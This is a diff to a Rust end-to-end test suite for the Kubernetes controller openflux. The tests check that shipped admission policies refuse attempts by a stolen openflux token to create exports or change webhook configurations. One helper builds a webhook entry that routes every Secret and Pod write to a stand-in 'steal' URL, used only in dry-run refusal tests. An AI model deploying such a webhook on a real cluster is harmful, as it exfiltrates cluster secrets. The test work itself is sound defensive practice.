@@ -6,20 +6,28 @@
 //! a stolen openflux token could do.
 //!
 //! RBAC lets openflux patch every consumer and write every Artifact,
-//! ExternalArtifact and OCIRepository; the shipped policies
-//! (`webhook-config/openflux-policy.yaml`, `secret-policy.yaml`) narrow it:
-//! on a consumer only the source reference, pointed at an export, and
-//! openflux's annotations; only the Artifacts and exports labelled as
-//! openflux's; no Secret but its certificates. The rewrites openflux does
-//! make pass under the same policies: every other e2e suite runs openflux
-//! with these credentials.
+//! ExternalArtifact and OCIRepository, patch its webhook configurations and
+//! create any ValidatingWebhookConfiguration; the shipped policies
+//! (`webhook-config/openflux-policy.yaml`, `secret-policy.yaml`,
+//! `registration-policy.yaml`) narrow it: on a consumer only the source
+//! reference, pointed at an export, and openflux's annotations; only the
+//! Artifacts and exports labelled as openflux's, an export only as an
+//! Artifact's; no Secret but its certificates; of its webhook
+//! configurations only the CA bundles, and no other but the validating one
+//! it ships. The rewrites openflux does make pass under the same policies:
+//! every other e2e suite runs openflux with these credentials.
 
 use openflux_testkit as support;
 
-use k8s_openapi::api::core::v1::Secret;
+use k8s_openapi::api::admissionregistration::v1::{
+    MutatingWebhookConfiguration, ValidatingWebhookConfiguration,
+};
+use k8s_openapi::api::core::v1::{Secret, Service};
+use k8s_openapi::api::rbac::v1::ClusterRole;
 use kube::api::{DeleteParams, Patch, PatchParams, PostParams};
 use kube::core::DynamicObject;
-use kube::Api;
+use kube::{Api, Resource, ResourceExt};
+use openflux::webhook::configuration::{self, Target, Write};
 use serde_json::{json, Value};
 use support::identity::openflux_client;
 use support::{cluster, wait_for, Env, TIMEOUT};
@@ -28,6 +36,11 @@ use support::{cluster, wait_for, Env, TIMEOUT};
 /// plane started before they existed gets them too).
 const POLICIES: &str = include_str!("../../webhook-config/openflux-policy.yaml");
 const SECRET_POLICY: &str = include_str!("../../webhook-config/secret-policy.yaml");
+const REGISTRATION_POLICY: &str = include_str!("../../webhook-config/registration-policy.yaml");
+/// openflux's MutatingWebhookConfiguration and the Service its validating
+/// one calls, as shipped.
+const MUTATING_WEBHOOK: &str = include_str!("../../webhook-config/mutating-webhook.yaml");
+const WEBHOOK_SERVICE: &str = include_str!("../../manifests/service.yaml");
 
 const SOURCE: &str = "source.toolkit.fluxcd.io/v1";
 const MANAGED_BY: &str = "app.kubernetes.io/managed-by";
@@ -157,6 +170,9 @@ async fn install(env: &Env) {
     env.apply_yaml(SECRET_POLICY)
         .await
         .expect("the shipped Secret policy");
+    env.apply_yaml(REGISTRATION_POLICY)
+        .await
+        .expect("the shipped policies on webhook configurations and exports");
     let stacks = support::workspace_root().join("e2e/crds/pulumi-stack.yaml");
     env.apply_yaml(&std::fs::read_to_string(&stacks).expect("the Stack CRD"))
         .await
@@ -397,7 +413,9 @@ async fn openflux_changes_only_the_source_reference_of_a_consumer() {
 /// else's object (an OCIRepository openflux does not manage) cannot be
 /// changed, taken over by labelling it, have its status written or be
 /// deleted, and nothing can be created without the label; an object with
-/// it can, and can be deleted again.
+/// it can (an export as an Artifact's, see
+/// `openflux_creates_an_export_only_as_an_artifacts`), and can be deleted
+/// again.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn openflux_writes_only_the_objects_it_manages() {
     let env = cluster().await;
@@ -407,6 +425,7 @@ async fn openflux_writes_only_the_objects_it_manages() {
     let openflux = openflux_client(&env).await;
     let pp = PatchParams::default();
     let policy = "openflux-own-objects";
+    let owned_by = owned_by_artifact(&env, &n, "owner").await;
     let objects = [
         (
             SOURCE,
@@ -477,10 +496,16 @@ async fn openflux_writes_only_the_objects_it_manages() {
             policy,
             api.delete(&theirs, &DeleteParams::default()).await,
         );
+        // An export as openflux makes it (the export of an Artifact), but
+        // without the label.
+        let metadata = if kind == "Artifact" {
+            json!({"name": "artifact-new", "namespace": n})
+        } else {
+            json!({"name": openflux::names::identity::artifact_export_name("owner"),
+                   "namespace": n, "ownerReferences": owned_by})
+        };
         let unlabelled: DynamicObject = serde_json::from_value(json!({
-            "apiVersion": api_version, "kind": kind,
-            "metadata": {"name": format!("{}-new", kind.to_lowercase()), "namespace": n},
-            "spec": spec}))
+            "apiVersion": api_version, "kind": kind, "metadata": metadata, "spec": spec}))
         .expect("an object");
         let message = refusal(
             &format!("creating a {kind} without openflux's label"),
@@ -764,4 +789,386 @@ async fn openflux_hands_on_only_reconcile_requests_to_custom_sources() {
     ns.delete().await;
     env.delete_object("rbac.authorization.k8s.io/v1", "ClusterRole", "", &role)
         .await;
+}
+
+/// An Artifact `name` in `ns`, made by the administrator: the owner
+/// references an export of it carries, as the export controller writes
+/// them (controller, by UID).
+async fn owned_by_artifact(env: &Env, ns: &str, name: &str) -> Value {
+    let artifact = env
+        .apply(&json!({
+            "apiVersion": "openflux.dev/v1alpha1", "kind": "Artifact",
+            "metadata": {"name": name, "namespace": ns},
+            "spec": {"url": format!("http://127.0.0.1:1/{name}.tar.gz"), "revision": "v1",
+                     "digest": format!("sha256:{}", "0".repeat(64)), "path": format!("{name}.tar.gz")}
+        }))
+        .await
+        .unwrap_or_else(|e| panic!("the Artifact {name}: {e:#}"));
+    json!([{"apiVersion": "openflux.dev/v1alpha1", "kind": "Artifact", "name": name,
+            "uid": artifact.metadata.uid.expect("the Artifact's uid"), "controller": true}])
+}
+
+/// openflux's credentials create an ExternalArtifact or OCIRepository, even
+/// labelled as openflux's, only as an export: controlled by an Artifact and
+/// named as openflux names exports. Neither one without an Artifact owner
+/// nor one owned by an Artifact under another name (such as an
+/// ArtifactGenerator's output, which would lock its producer out) is
+/// admitted; the export the controller would write is.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn openflux_creates_an_export_only_as_an_artifacts() {
+    let env = cluster().await;
+    install(&env).await;
+    let ns = env.namespace("privilege-exports").await;
+    let n = ns.name().to_string();
+    let openflux = openflux_client(&env).await;
+    let owned_by = owned_by_artifact(&env, &n, "web").await;
+    let export = openflux::names::identity::artifact_export_name("web");
+    let dry = PostParams {
+        dry_run: true,
+        ..Default::default()
+    };
+    let policy = "openflux-export-owners";
+    for (kind, spec) in [
+        (
+            "ExternalArtifact",
+            json!({"sourceRef": {"apiVersion": "openflux.dev/v1alpha1", "kind": "Artifact", "name": "web"}}),
+        ),
+        (
+            "OCIRepository",
+            json!({"url": format!("oci://127.0.0.1:1/{n}/web"), "interval": "10m",
+                   "ref": {"tag": "latest"}, "suspend": true}),
+        ),
+    ] {
+        let (api, _) = support::dynamic_api(&openflux, SOURCE, kind, Some(&n))
+            .await
+            .expect("discovery");
+        let object = |name: &str, owners: &Value| -> DynamicObject {
+            serde_json::from_value(json!({
+                "apiVersion": SOURCE, "kind": kind,
+                "metadata": {"name": name, "namespace": n,
+                             "labels": {MANAGED_BY: "openflux"}, "ownerReferences": owners},
+                "spec": spec}))
+            .expect("an object")
+        };
+        let unowned = object(&export, &json!([]));
+        let message = first_refusal(&format!("a {kind} no Artifact owns"), policy, || {
+            let (api, unowned, dry) = (api.clone(), unowned.clone(), dry.clone());
+            async move { api.create(&dry, &unowned).await }
+        })
+        .await;
+        assert!(
+            message.contains(&format!(
+                "refused to create {kind} {n}/{export}, which no Artifact controls"
+            )),
+            "{message}"
+        );
+        let message = refusal(
+            &format!("an Artifact's {kind} under another producer's name"),
+            policy,
+            api.create(&dry, &object("app-output", &owned_by)).await,
+        );
+        assert!(
+            message.contains(&format!(
+                "refused to create {kind} {n}/app-output, whose name is not an export name"
+            )),
+            "{message}"
+        );
+        api.create(&dry, &object(&export, &owned_by))
+            .await
+            .unwrap_or_else(|e| panic!("openflux creating the export {kind} {export}: {e}"));
+    }
+    ns.delete().await;
+}
+
+/// The label of the webhook configurations these tests make under
+/// openflux's names, standing in for openflux's own.
+const STAND_IN: &str = "e2e.openflux.dev/stand-in";
+
+/// Webhook configurations the administrator made under openflux's names,
+/// with every entry calling for no object (an objectSelector no object
+/// matches), so they change no admission while they stand; deleted on drop.
+struct StandIns {
+    config: kube::Config,
+    names: Vec<(&'static str, String)>,
+}
+
+impl StandIns {
+    /// Makes `config` unless a configuration of its kind and name exists
+    /// that is not a stand-in (then the tests, dry runs all, use that one).
+    async fn make(&mut self, env: &Env, mut config: Value) {
+        let kind = if config["kind"] == "MutatingWebhookConfiguration" {
+            "MutatingWebhookConfiguration"
+        } else {
+            "ValidatingWebhookConfiguration"
+        };
+        let name = config["metadata"]["name"]
+            .as_str()
+            .expect("a name")
+            .to_string();
+        let existing = env
+            .get(ADMISSION, kind, None, &name)
+            .await
+            .expect("reading the webhook configuration");
+        if existing.is_some_and(|c| !c.labels().contains_key(STAND_IN)) {
+            return;
+        }
+        for entry in config["webhooks"].as_array_mut().expect("entries") {
+            entry["objectSelector"] = json!({"matchLabels": {STAND_IN: "no-object"}});
+        }
+        config["metadata"]["labels"][STAND_IN] = json!("true");
+        env.apply(&config)
+            .await
+            .unwrap_or_else(|e| panic!("the stand-in {kind} {name}: {e:#}"));
+        self.names.push((kind, name));
+    }
+}
+
+impl Drop for StandIns {
+    fn drop(&mut self) {
+        let (config, names) = (self.config.clone(), std::mem::take(&mut self.names));
+        let _ = std::thread::spawn(move || {
+            let rt = tokio::runtime::Builder::new_current_thread()
+                .enable_all()
+                .build()
+                .expect("a runtime");
+            rt.block_on(async {
+                let Ok(client) = kube::Client::try_from(config) else {
+                    return;
+                };
+                for (kind, name) in names {
+                    let dp = DeleteParams::default();
+                    let deleted = if kind == "MutatingWebhookConfiguration" {
+                        let api: Api<MutatingWebhookConfiguration> = Api::all(client.clone());
+                        api.delete(&name, &dp).await.map(|_| ())
+                    } else {
+                        let api: Api<ValidatingWebhookConfiguration> = Api::all(client.clone());
+                        api.delete(&name, &dp).await.map(|_| ())
+                    };
+                    if let Err(e) = deleted {
+                        eprintln!("deleting the stand-in {kind} {name}: {e}");
+                    }
+                }
+            });
+        })
+        .join();
+    }
+}
+
+const ADMISSION: &str = "admissionregistration.k8s.io/v1";
+
+/// An entry calling `url` for every write of a Secret or Pod: what a
+/// taken-over openflux would add to see them.
+fn secrets_and_pods(name: &str) -> Value {
+    json!({"name": name, "admissionReviewVersions": ["v1"], "sideEffects": "None",
+           "failurePolicy": "Ignore", "clientConfig": {"url": "https://198.18.0.1/steal"},
+           "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "resources": ["secrets", "pods"],
+                      "operations": ["CREATE", "UPDATE"], "scope": "*"}]})
+}
+
+/// What `openflux run --validating-webhook-service=openflux-webhook` makes,
+/// as the manifests install it: the configuration `openflux` calling the
+/// shipped Service's port `validate`, owned by openflux's ClusterRole (by
+/// uid, neither controller nor blocking its deletion).
+async fn published_validating_webhook(env: &Env) -> ValidatingWebhookConfiguration {
+    let service: Service = serde_yaml_ng::from_str(WEBHOOK_SERVICE).expect("the shipped Service");
+    let target = Target {
+        namespace: service.metadata.namespace.clone().expect("its namespace"),
+        service: service.metadata.name.clone().expect("its name"),
+        port: configuration::service_port(&service, "validate").expect("its port validate"),
+    };
+    let roles: Api<ClusterRole> = Api::all(env.client.clone());
+    let owner = roles
+        .get("openflux")
+        .await
+        .expect("openflux's ClusterRole")
+        .owner_ref(&());
+    assert!(owner.is_some(), "openflux's ClusterRole has a uid");
+    configuration::desired("openflux", &target, owner).expect("the validating configuration")
+}
+
+/// openflux's credentials change, of the webhook configurations RBAC lets
+/// them patch, only the CA bundles of the entries they have: adding an
+/// entry (one that would send every Secret and Pod to a taken-over
+/// openflux) or changing an entry's rules is refused, and so is creating a
+/// ValidatingWebhookConfiguration of another name, or `openflux` with
+/// another entry. What openflux writes passes: the CA bundle patch of
+/// `webhook::cabundle`, and the validating configuration
+/// `webhook::registration` creates or writes over an earlier release's.
+/// Dry runs all: the configurations the tests make under openflux's names
+/// match no object.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn openflux_changes_only_the_ca_bundles_of_its_webhook_configurations() {
+    let env = cluster().await;
+    install(&env).await;
+    let openflux = openflux_client(&env).await;
+    let dry = PatchParams {
+        dry_run: true,
+        ..Default::default()
+    };
+    let dry_post = PostParams {
+        dry_run: true,
+        ..Default::default()
+    };
+    let policy = "openflux-webhook-configurations";
+    let ca = openflux::certs::Authority::generate(openflux::certs::DEFAULT_CA_VALIDITY)
+        .expect("a CA")
+        .cert_pem
+        .into_bytes();
+    let mut stand_ins = StandIns {
+        config: env.config.clone(),
+        names: Vec::new(),
+    };
+
+    // The mutating configuration: no entry added, none changed.
+    let shipped: Value = serde_yaml_ng::from_str(MUTATING_WEBHOOK).expect("the shipped YAML");
+    stand_ins.make(&env, shipped).await;
+    let mutating: Api<MutatingWebhookConfiguration> = Api::all(openflux.clone());
+    let add = json!([{"op": "add", "path": "/webhooks/-", "value": secrets_and_pods("everything.openflux.dev")}]);
+    let message = first_refusal(
+        "an entry for Secrets and Pods in the MutatingWebhookConfiguration openflux",
+        policy,
+        || {
+            let (mutating, add, dry) = (mutating.clone(), add.clone(), dry.clone());
+            async move {
+                let patch: json_patch::Patch = serde_json::from_value(add).expect("a JSON patch");
+                mutating
+                    .patch("openflux", &dry, &Patch::Json::<()>(patch))
+                    .await
+            }
+        },
+    )
+    .await;
+    assert!(
+        message.contains(
+            "openflux may change only clientConfig.caBundle of the entries of MutatingWebhookConfiguration openflux: refused an update that adds, removes, renames or reorders entries"
+        ),
+        "{message}"
+    );
+    let rules: json_patch::Patch = serde_json::from_value(json!([{
+        "op": "add", "path": "/webhooks/0/rules/-",
+        "value": {"apiGroups": [""], "apiVersions": ["v1"], "resources": ["secrets", "pods"],
+                  "operations": ["CREATE", "UPDATE"], "scope": "*"}}]))
+    .expect("a JSON patch");
+    let message = refusal(
+        "a rule for Secrets and Pods in an entry",
+        policy,
+        mutating
+            .patch("openflux", &dry, &Patch::Json::<()>(rules))
+            .await,
+    );
+    assert!(
+        message.contains("refused an update that changes an entry beside its caBundle"),
+        "{message}"
+    );
+    let current = mutating
+        .get("openflux")
+        .await
+        .expect("reading the configuration as openflux");
+    let patch =
+        openflux::webhook::cabundle::ca_bundle_patch(&current, &ca).expect("a CA bundle to write");
+    mutating
+        .patch("openflux", &dry, &Patch::Json::<()>(patch))
+        .await
+        .expect("openflux writing its CA bundle into the MutatingWebhookConfiguration");
+
+    // The validating configuration: created only as openflux ships it.
+    let validating: Api<ValidatingWebhookConfiguration> = Api::all(openflux.clone());
+    let mut anything: ValidatingWebhookConfiguration = serde_json::from_value(json!({
+        "metadata": {"name": "zz-anything"}, "webhooks": [secrets_and_pods("everything.openflux.dev")]}))
+    .expect("a configuration");
+    let message = refusal(
+        "a ValidatingWebhookConfiguration zz-anything",
+        policy,
+        validating.create(&dry_post, &anything).await,
+    );
+    assert!(
+        message.contains(
+            "openflux may create only the ValidatingWebhookConfiguration openflux, with exactly the entries it ships: refused to create ValidatingWebhookConfiguration zz-anything"
+        ),
+        "{message}"
+    );
+    let published = published_validating_webhook(&env).await;
+    anything = published.clone();
+    anything.metadata.name = Some("zz-anything".into());
+    refusal(
+        "the shipped entries in a configuration of another name",
+        policy,
+        validating.create(&dry_post, &anything).await,
+    );
+    let Write::Create(created) = configuration::plan(None, published.clone(), &ca) else {
+        panic!("nothing to create");
+    };
+    let mut more = (*created).clone();
+    more.webhooks.get_or_insert_with(Vec::new).push(
+        serde_json::from_value(secrets_and_pods("secrets.validate.openflux.dev"))
+            .expect("an entry"),
+    );
+    let message = refusal(
+        "the ValidatingWebhookConfiguration openflux with another entry",
+        policy,
+        validating.create(&dry_post, &more).await,
+    );
+    assert!(
+        message.contains("(its entries are not the shipped ones)"),
+        "{message}"
+    );
+    // What the registration controller creates (admitted: an existing
+    // one answers AlreadyExists only after admission).
+    match validating.create(&dry_post, &created).await {
+        Ok(_) => {}
+        Err(kube::Error::Api(e)) if e.code == 409 => {}
+        Err(e) => panic!("openflux creating its ValidatingWebhookConfiguration: {e}"),
+    }
+
+    // An earlier release's configuration, written over as the
+    // registration controller writes it; then its CA bundle.
+    let mut earlier = serde_json::to_value(&created).expect("JSON");
+    earlier["apiVersion"] = json!(ADMISSION);
+    earlier["kind"] = json!("ValidatingWebhookConfiguration");
+    earlier["metadata"] = json!({"name": "openflux"});
+    let entries = earlier["webhooks"].as_array_mut().expect("entries");
+    entries.pop();
+    for entry in entries {
+        entry["clientConfig"]
+            .as_object_mut()
+            .expect("a clientConfig")
+            .remove("caBundle");
+    }
+    stand_ins.make(&env, earlier).await;
+    let current = validating
+        .get("openflux")
+        .await
+        .expect("reading the configuration as openflux");
+    if current.labels().contains_key(STAND_IN) {
+        let Write::Replace(over) = configuration::plan(Some(&current), published.clone(), &ca)
+        else {
+            panic!("the earlier configuration is not written over");
+        };
+        validating
+            .replace("openflux", &dry_post, &over)
+            .await
+            .expect("openflux writing its ValidatingWebhookConfiguration over an earlier one");
+        let patch = openflux::webhook::cabundle::ca_bundle_patch(&current, &ca)
+            .expect("a CA bundle to write");
+        validating
+            .patch("openflux", &dry, &Patch::Json::<()>(patch))
+            .await
+            .expect("openflux writing its CA bundle into the ValidatingWebhookConfiguration");
+        let rules: json_patch::Patch = serde_json::from_value(json!([{
+            "op": "replace", "path": "/webhooks/0/rules/0/resources",
+            "value": ["kustomizations", "secrets"]}]))
+        .expect("a JSON patch");
+        let message = refusal(
+            "another rule in the ValidatingWebhookConfiguration openflux",
+            policy,
+            validating
+                .patch("openflux", &dry, &Patch::Json::<()>(rules))
+                .await,
+        );
+        assert!(
+            message.contains("refused an update that changes an entry beside its caBundle"),
+            "{message}"
+        );
+    }
+    drop(stand_ins);
 }
